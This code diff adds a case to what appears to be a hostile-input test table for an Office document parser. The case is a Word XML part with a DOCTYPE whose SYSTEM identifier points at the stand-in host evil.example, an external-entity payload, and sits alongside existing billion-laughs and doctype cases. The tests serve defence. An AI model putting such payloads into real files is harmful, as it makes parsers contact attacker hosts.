@@ -192,6 +192,12 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
         lambda: changed(document(), {"customXml/item1.xml": DOCTYPE}),
         "document type",
     ),
+    "a document type that asks another machine": (
+        lambda: changed(
+            document(), {"word/x.xml": '<!DOCTYPE x SYSTEM "https://evil.example"><x/>'}
+        ),
+        "document type",
+    ),
     "a billion laughs": (
         lambda: changed(workbook(), {"xl/sharedStrings.xml": LAUGHS}),
         "document type",
